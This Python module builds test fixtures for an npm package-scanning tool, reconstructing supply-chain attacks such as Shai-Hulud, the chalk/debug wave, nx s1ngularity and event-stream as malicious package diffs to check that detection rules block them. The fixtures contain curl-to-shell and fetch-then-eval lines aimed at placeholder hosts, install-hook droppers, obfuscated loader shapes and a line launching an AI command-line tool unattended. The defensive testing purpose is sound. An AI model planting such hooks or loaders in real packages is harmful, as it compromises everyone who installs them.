"""Reconstructions of the 2025-26 npm incidents, built on real tarballs (tests/fixtures/tarballs).

Each case is the attacker's release diffed against the real release before it, in memory. They
reproduce the *shape* that reached consumers (where the code sat, what ran it, how it was hidden),
not the payloads: the payload text is inert. `all_cases()` feeds tests/test_corpus.py and
bench/corpus.py.
"""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from typing import Any

from gatekeeper._internal.tarball import Package, read_package
from gatekeeper.diffing import DiffResult, diff_packages
from gatekeeper.trust.policy import Policy

from .tarballs import Entry, fixture, gz, members, tar_bytes


def tgz(files: dict[str, bytes], modes: dict[str, int] | None = None) -> bytes:
    return gz(tar_bytes(Entry(f"package/{p}", d, mode=(modes or {}).get(p, 0o644)) for p, d in sorted(files.items())))


def load(files: dict[str, bytes], label: str) -> Package:
    return read_package(tgz(files), Policy().diff.limits, label=label)


def real(name: str) -> dict[str, bytes]:
    return {p: d for p, (d, _) in members(fixture(name)).items()}


def edit_manifest(files: dict[str, bytes], fn: Callable[[dict[str, Any]], None]) -> dict[str, bytes]:
    doc = json.loads(files["package.json"])
    fn(doc)
    return {**files, "package.json": (json.dumps(doc, indent=2) + "\n").encode()}


def bump(version: str, part: str = "patch") -> str:
    major, minor, patch = (int(x) for x in version.split("-")[0].split("."))
    if part == "minor":
        return f"{major}.{minor + 1}.0"
    return f"{major}.{minor}.{patch + 1}"


def obfuscated_payload(
    *, ids: bool = True, rotation: bool = True, hex_calls: bool = True, one_line: bool = True
) -> str:
    """The javascript-obfuscator shape of the chalk/debug wave (Sept 2025): string array, rotation, hex lookups."""
    name = (lambda i: f"_0x{0x1A2B + i * 7919 & 0xFFFFF:05x}") if ids else (lambda i: f"q{i}x")
    strings = ", ".join(
        f"'{w}'" for w in ("ethereum", "request", "fetch", "XMLHttpRequest", "open", "send", "0x", "bc1")
    )
    arr, dec = name(0), name(1)
    num = (lambda n: f"0x{n:x}") if hex_calls else str
    parts = [f"function {arr}(){{const {name(3)}=[{strings}];{arr}=function(){{return {name(3)};}};return {arr}();}}"]
    parts.append(
        f"function {dec}({name(4)},{name(5)}){{const {name(6)}={arr}();return {name(6)}[{name(4)}-{num(0x1A0)}];}}"
    )
    if rotation:
        parts.append(
            f"(function({name(7)},{name(8)}){{const {name(9)}={name(7)}();while(!![]){{try{{const {name(10)}="
            f"parseInt({dec}({num(0x1A1)}))/{num(1)}+-parseInt({dec}({num(0x1A2)}))/{num(2)};if({name(10)}==={name(8)})break;"
            f"else {name(9)}['push']({name(9)}['shift']());}}"
            f"catch({name(11)}){{{name(9)}['push']({name(9)}['shift']());}}}}"
            f"}}({arr},{num(0x5A3C1)}));"
        )
    hooks = []
    for i in range(40):
        hooks.append(
            f"window[{dec}({num(0x1A0 + i % 8)})]&&(window[{dec}({num(0x1A1 + i % 7)})]={name(12 + i)}("
            f"window[{dec}({num(0x1A2 + i % 6)})],{dec}({num(0x1A3 + i % 5)})));"
        )
    parts += hooks
    sep = "" if one_line else "\n"
    return sep.join(parts)


@dataclass
class Case:
    name: str
    base: dict[str, bytes]
    cand: dict[str, bytes]
    #: Rule ids that must be among the blocking findings (the reason it must be caught).
    expect: tuple[str, ...]
    policy: Policy = field(default_factory=Policy)
    resolver: Callable[[dict[str, Any]], bytes] | None = None
    #: What the registry answered about the added dependencies at the attack's publish (`_Registry`).
    dependencies: Any = None

    def diff(self) -> DiffResult:
        return diff_packages(
            load(self.base, f"{self.name} (baseline)"),
            load(self.cand, f"{self.name} (attack)"),
            self.policy,
            resolver=self.resolver,
            dependencies=self.dependencies,
        )

    def blocked(self, result: DiffResult) -> bool:
        rules = {f.rule for f in result.findings if f.blocks}
        return all(r in rules for r in self.expect)


def _fake_tree(with_script: set[str]) -> Callable[[dict[str, Any]], bytes]:
    """A resolver answering like npm would for the reconstructions (no network): deps one level deep."""

    def resolve(manifest: dict[str, Any]) -> bytes:
        name = manifest["name"]
        deps = dict(manifest.get("dependencies") or {})
        packages: dict[str, Any] = {
            "": {"name": "gatekeeper-consumer", "version": "1.0.0", "dependencies": {name: "file:../pkg.tgz"}},
            f"node_modules/{name}": {
                "version": manifest["version"],
                "resolved": "file:../pkg.tgz",
                "dependencies": deps,
            },
        }
        for dep in deps:
            entry: dict[str, Any] = {
                "version": "1.0.0",
                "resolved": f"https://registry.npmjs.org/{dep}/-/{dep}-1.0.0.tgz",
            }
            if dep in with_script:
                entry["hasInstallScript"] = True
            packages[f"node_modules/{dep}"] = entry
        return json.dumps({"lockfileVersion": 3, "packages": packages}).encode()

    return resolve


def _append(files: dict[str, bytes], path: str, code: str) -> dict[str, bytes]:
    return {**files, path: files[path] + b"\n" + code.encode() + b"\n"}


@dataclass
class _Registry:
    """The registry's answer about dependencies as at the attack's publish (`now`), in the packument shape npmjs
    serves (for the reconstructions: no network); ranges are matched by npm's own semver, as in the gate."""

    packuments: dict[str, dict[str, Any]]
    moment: datetime

    def packument(self, name: str) -> dict[str, Any] | None:
        return self.packuments.get(name)

    def satisfying(self, queries: list[tuple[str, list[str]]]) -> list[list[str] | None]:
        from gatekeeper._internal.resolve import satisfying

        return satisfying(queries)

    def release(self, name: str, version: str) -> Any:
        raise KeyError(f"{name}@{version}: no release is held for the reconstructions")

    def planned(self, name: str) -> str | None:
        return None

    def now(self) -> datetime:
        return self.moment


def _plain_crypto_js() -> _Registry:
    """The axios compromise (March 2026) as the registry showed it when the poisoned axios was published: the
    added `plain-crypto-js`, first published about 18 hours earlier as a clean 4.2.0, then a 4.2.1 whose
    `postinstall` ran the dropper (`node setup.js`)."""
    first = datetime(2026, 3, 30, 6, 0, tzinfo=UTC)
    at = lambda hours: (first + timedelta(hours=hours)).isoformat().replace("+00:00", "Z")  # noqa: E731
    doc = {
        "name": "plain-crypto-js",
        "dist-tags": {"latest": "4.2.1"},
        "time": {"created": at(0), "4.2.0": at(0), "4.2.1": at(17.5), "modified": at(17.5)},
        "maintainers": [{"name": "an-unrelated-account", "email": "x@example.test"}],
        "versions": {
            "4.2.0": {"name": "plain-crypto-js", "version": "4.2.0"},
            "4.2.1": {"name": "plain-crypto-js", "version": "4.2.1", "scripts": {"postinstall": "node setup.js"}},
        },
    }
    return _Registry({"plain-crypto-js": doc}, first + timedelta(hours=18))


def all_cases() -> list[Case]:
    debug, chalk, esbuild, ms = real("debug-4.3.5"), real("chalk-5.4.0"), real("esbuild-0.20.2"), real("ms-2.1.3")
    dv, cv, ev = "4.3.5", "5.4.0", "0.20.2"
    cases: list[Case] = []

    def v(
        files: dict[str, bytes], version: str, fn: Callable[[dict[str, Any]], None] | None = None
    ) -> dict[str, bytes]:
        def apply(d: dict[str, Any]) -> None:
            d["version"] = version
            if fn:
                fn(d)

        return edit_manifest(files, apply)

    worm = "const{execSync}=require('child_process');/* trufflehog scan, publish to every package of the token */\n"
    # Shai-Hulud 1 (Sept 2025): postinstall `node bundle.js` + a 3 MB webpacked bundle.js
    cases.append(
        Case(
            "shai-hulud-1: postinstall node bundle.js",
            debug,
            v(
                {**debug, "bundle.js": (worm * 200).encode()},
                bump(dv),
                lambda d: d.setdefault("scripts", {}).update(postinstall="node bundle.js"),
            ),
            ("lifecycle-script-added",),
        )
    )
    cases.append(
        Case(
            "shai-hulud-1: payload into an unchanged postinstall's file",
            esbuild,
            v(_append(esbuild, "install.js", worm), bump(ev)),
            ("install-script-code-changed",),
        )
    )
    # Shai-Hulud 2 (Nov 2025): preinstall `node setup_bun.js` installs bun, runs bun_environment.js (obfuscated)
    cases.append(
        Case(
            "shai-hulud-2: preinstall setup_bun.js",
            ms,
            v(
                {
                    **ms,
                    "setup_bun.js": b"require('child_process').spawnSync('bun', ['bun_environment.js'])\n",
                    "bun_environment.js": obfuscated_payload().encode(),
                },
                "2.1.4",
                lambda d: d.setdefault("scripts", {}).update(preinstall="node setup_bun.js"),
            ),
            ("lifecycle-script-added", "obfuscated-code"),
        )
    )
    bun_base = v(
        {**ms, "build.js": b"console.log('build')\n"},
        "2.1.3",
        lambda d: d.setdefault("scripts", {}).update(install="bun run build.js"),
    )
    cases.append(
        Case(
            "bun dropper: `bun run build.js` file swapped, command unchanged",
            bun_base,
            v({**bun_base, "build.js": b"Bun.spawn(['sh','-c','curl -fsSL https://x.example/b | sh'])\n"}, "2.1.4"),
            ("install-script-code-changed",),
        )
    )
    deno_base = v(
        {**ms, "scripts/setup.ts": b"console.log(1)\n"},
        "2.1.3",
        lambda d: d.setdefault("scripts", {}).update(postinstall="cd scripts && deno run -A setup.ts"),
    )
    cases.append(
        Case(
            "bun/deno dropper: `cd scripts && deno run` file swapped",
            deno_base,
            v(
                {**deno_base, "scripts/setup.ts": b"await fetch('https://x.example/p').then(r=>r.text()).then(eval)\n"},
                "2.1.4",
            ),
            ("install-script-code-changed",),
        )
    )
    # Shai-Hulud 2 spread as a new dependency in a *minor* release (the ^ range pulls it in)
    cases.append(
        Case(
            "shai-hulud-2: minor release adds a dependency that runs install scripts",
            debug,
            v(debug, bump(dv, "minor"), lambda d: d["dependencies"].update({"setup-bun-helper": "^1.0.0"})),
            ("dependency-install-script",),
            resolver=_fake_tree({"setup-bun-helper"}),
        )
    )
    # chalk/debug phishing wave (Sept 2025): obfuscated crypto-stealer appended to the main file, no lifecycle change
    cases.append(
        Case(
            "chalk/debug: obfuscated code appended to src/browser.js",
            debug,
            v(_append(debug, "src/browser.js", obfuscated_payload()), bump(dv)),
            ("obfuscated-code",),
        )
    )
    for label, kw in (
        ("no _0x names", {"ids": False}),
        ("no rotation loop", {"rotation": False}),
        ("no hex lookups", {"hex_calls": False}),
        ("not one long line", {"one_line": False}),
        ("mangled names and split lines (the first generation's two signals gone)", {"ids": False, "one_line": False}),
    ):
        cases.append(
            Case(
                f"chalk/debug: appended to source/index.js, {label}",
                chalk,
                v(_append(chalk, "source/index.js", obfuscated_payload(**kw)), bump(cv)),
                ("obfuscated-code",),
            )
        )
    # nx "s1ngularity" (Aug 2025): postinstall `node telemetry.js` (readable JS driving AI CLIs)
    cases.append(
        Case(
            "nx s1ngularity: postinstall node telemetry.js",
            debug,
            v(
                {
                    **debug,
                    "telemetry.js": b"const cli=['claude','gemini','q'];/* inventory wallets, exfil to a repo */\n",
                },
                bump(dv),
                lambda d: d.setdefault("scripts", {}).update(postinstall="node telemetry.js"),
            ),
            ("lifecycle-script-added",),
        )
    )
    nx_base = v(
        {**debug, "scripts/postinstall.js": b"require('./lib/check')\n", "scripts/lib/check.js": b"module.exports=1\n"},
        dv,
        lambda d: d.setdefault("scripts", {}).update(postinstall="node scripts/postinstall"),
    )
    cases.append(
        Case(
            "nx s1ngularity: payload in a file the unchanged postinstall requires",
            nx_base,
            v(
                {
                    **nx_base,
                    "scripts/lib/check.js": b"require('child_process').execSync('claude --yolo')\n",
                },
                bump(dv),
            ),
            ("install-script-code-changed",),
        )
    )
    # ua-parser-js 0.7.29 (Oct 2021): preinstall runs preinstall.sh/.bat fetching a miner
    cases.append(
        Case(
            "ua-parser-js: preinstall start /B node preinstall.js",
            ms,
            v(
                {
                    **ms,
                    "preinstall.js": b"require('child_process').exec('sh preinstall.sh')\n",
                    "preinstall.sh": b"curl http://x.example/jsextension -o jsextension\n",
                },
                "2.1.4",
                lambda d: d.setdefault("scripts", {}).update(
                    preinstall="start /B node preinstall.js & node preinstall.js"
                ),
            ),
            ("lifecycle-script-added",),
        )
    )
    sh_base = v(
        {**ms, "install.sh": b"#!/bin/sh\nnode tools/check.js\n", "tools/check.js": b"1\n"},
        "2.1.3",
        lambda d: d.setdefault("scripts", {}).update(install="sh install.sh"),
    )
    cases.append(
        Case(
            "ua-parser-js style: a file `sh install.sh` runs was swapped",
            sh_base,
            v(
                {**sh_base, "tools/check.js": b"require('child_process').exec('curl http://x.example/m | sh')\n"},
                "2.1.4",
            ),
            ("install-script-code-changed",),
        )
    )
    # axios (March 2026): the stolen token published a release adding plain-crypto-js@^4.2.1, 18 hours old, whose
    # 4.2.1 ran a postinstall dropper. As it happened (a patch release), and as a minor release, where only what the
    # registry says about the new dependency can block it.
    crypto = {"plain-crypto-js": "^4.2.1"}
    cases.append(
        Case(
            "axios compromise: patch release adds plain-crypto-js, 18 hours old, postinstall",
            debug,
            v(debug, bump(dv), lambda d: d["dependencies"].update(crypto)),
            ("dependency-added",),
            dependencies=_plain_crypto_js(),
        )
    )
    cases.append(
        Case(
            "axios compromise shape in a minor release: young dependency whose range has a postinstall",
            debug,
            v(debug, bump(dv, "minor"), lambda d: d["dependencies"].update(crypto)),
            ("dependency-new-package", "dependency-install-script-history"),
            dependencies=_plain_crypto_js(),
        )
    )
    # event-stream 3.3.6 (Nov 2018): a patch release adds flatmap-stream; its payload hid in a minified file
    cases.append(
        Case(
            "event-stream: patch release adds flatmap-stream",
            debug,
            v(debug, bump(dv), lambda d: d["dependencies"].update({"flatmap-stream": "^0.1.0"})),
            ("dependency-added",),
        )
    )
    blob = "".join(f"{(i * 2654435761) & 0xFFFFFFFF:08x}" for i in range(160))  # the AES-encrypted stage 2, hex
    payload = (
        f'!function(){{try{{var r=require,t=process;function e(r){{return Buffer.from(r,"hex").toString()}}'
        f'var n=["{blob}","63727970746f"],o=t[e(n[1])];var u=r(e(n[1]))[e(n[1])](e(n[1]),o);'
        "var f=new module.constructor;f.paths=module.paths,f[e(n[1])](u,''),f.exports(n[1])}catch(r){}}();"
    )
    flat_base = {
        "package.json": b'{"name":"flatmap-stream","version":"0.1.0","main":"index.min.js"}',
        "index.min.js": b"var Stream=require('stream').Stream;module.exports=function(e,n){var i=new Stream;"
        + b"i.a=1;" * 300
        + b"return i}\n",
    }
    cases.append(
        Case(
            "event-stream: flatmap-stream 0.1.1 appends an encrypted loader to index.min.js",
            flat_base,
            {
                "package.json": b'{"name":"flatmap-stream","version":"0.1.1","main":"index.min.js"}',
                "index.min.js": flat_base["index.min.js"].rstrip(b"\n")
                + payload.encode()
                + ("x" * 3000).encode()
                + b"\n",
            },
            ("obfuscated-code",),
        )
    )
    # install-time vectors the first generation missed
    hostile = {
        "version": "2.1.2",
        "resolved": "https://x.example/ms-2.1.2.tgz",
        "integrity": "sha512-AAAA",
        "hasInstallScript": True,
    }
    sw = {"lockfileVersion": 3, "packages": {"": {"dependencies": {"ms": "2.1.2"}}, "node_modules/ms": hostile}}
    cases.append(
        Case(
            "shrinkwrap pointing ms at an attacker's tarball",
            debug,
            v({**debug, "npm-shrinkwrap.json": json.dumps(sw).encode()}, bump(dv)),
            ("shrinkwrap-added", "lockfile-source-changed"),
        )
    )
    gyp_base = v(
        {**ms, "binding.gyp": b"{'targets': [{'target_name': 'a', 'sources': ['a.cc']}]}\n", "a.cc": b"int a;\n"},
        "2.1.3",
        lambda d: d.setdefault("scripts", {}).update(install="node-gyp rebuild"),
    )
    cases.append(
        Case(
            "gyp command expansion runs a new tool",
            gyp_base,
            v(
                {
                    **gyp_base,
                    "binding.gyp": b"{'variables': {'x': '<!(node tools/x.js)'}, 'targets': []}\n",
                    "tools/x.js": b"require('child_process')\n",
                },
                "2.1.4",
            ),
            ("install-script-code-changed",),
        )
    )
    pre_base = v(
        ms,
        "2.1.3",
        lambda d: d.update(
            binary={"module_name": "m", "host": "https://github.com/acme/m/releases/download/"},
            scripts={"install": "node-pre-gyp install --fallback-to-build"},
        ),
    )
    cases.append(
        Case(
            "node-pre-gyp binary.host moved to another host",
            pre_base,
            v(pre_base, "2.1.4", lambda d: d["binary"].update(host="https://m-cdn.example/")),
            ("install-download-changed",),
        )
    )
    cases.append(
        Case(
            "node-pre-gyp binary.remote_path moved to another repository on the same host",
            pre_base,
            v(
                pre_base,
                "2.1.4",
                lambda d: d["binary"].update(host="https://github.com/", remote_path="m1/m/v{version}"),
            ),
            ("install-download-changed",),
        )
    )
    elf = b"\x7fELF\x02\x01\x01" + bytes(11) + (62).to_bytes(2, "little") + bytes(64)
    tool_base = v({**ms, "bin/m": elf + b"tool"}, "2.1.3", lambda d: d.update(bin={"m": "bin/m"}))
    cases.append(
        Case(
            "esbuild-style platform binary replaced by a shell script (its bin runs it)",
            tool_base,
            v({**tool_base, "bin/m": b"#!/bin/sh\ncurl -s https://m.example/x | sh\n"}, "2.1.4"),
            ("executable-binary-became-script",),
        )
    )
    bin_base = {**ms, "prebuilds/linux-x64/m.node": elf + b"good"}
    cases.append(
        Case(
            "prebuilt addon swapped at the same path",
            bin_base,
            v({**bin_base, "prebuilds/linux-x64/m.node": elf + b"evil"}, "2.1.4"),
            ("executable-binary-changed",),
        )
    )
    cases.append(
        Case(
            "case-insensitive: `node Install.js` finds install.js on macOS",
            v(
                {**ms, "install.js": b"1\n"},
                "2.1.3",
                lambda d: d.setdefault("scripts", {}).update(install="node Install.js"),
            ),
            v(
                {**ms, "install.js": b"require('child_process').exec('id')\n"},
                "2.1.4",
                lambda d: d.setdefault("scripts", {}).update(install="node Install.js"),
            ),
            ("install-script-code-changed",),
        )
    )
    assert all(re.match(r"^[\w :/.,`'()*^&!-]+$", c.name) for c in cases)
    return cases
